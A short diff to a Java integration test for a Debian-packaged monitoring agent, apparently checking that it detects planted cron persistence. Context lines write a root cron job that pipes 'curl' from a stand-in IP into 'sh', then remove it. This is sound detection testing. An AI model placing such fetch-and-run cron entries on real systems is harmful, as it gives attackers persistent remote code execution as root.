@@ -109,7 +109,7 @@ final class DebianPackageTest {
         enrol();
         assertTrue(debian.until(CONNECTED), () -> log("vigie-agent"));
         debian.says("printf '* * * * * root curl -s http://203.0.113.7/x | sh\\n' > /etc/cron.d/vigie-test");
-        assertTrue(debian.until(collector("events") + " | grep -q vigie-test"), () -> log("vigie-agent"));
+        assertTrue(debian.until("sleep 1; " + collector("events") + " | grep -q vigie-test"), () -> log("vigie-agent"));
         debian.says("rm /etc/cron.d/vigie-test");
         assertTrue(debian.says(collector("hosts list")).contains("\"connected\":true"));
     }
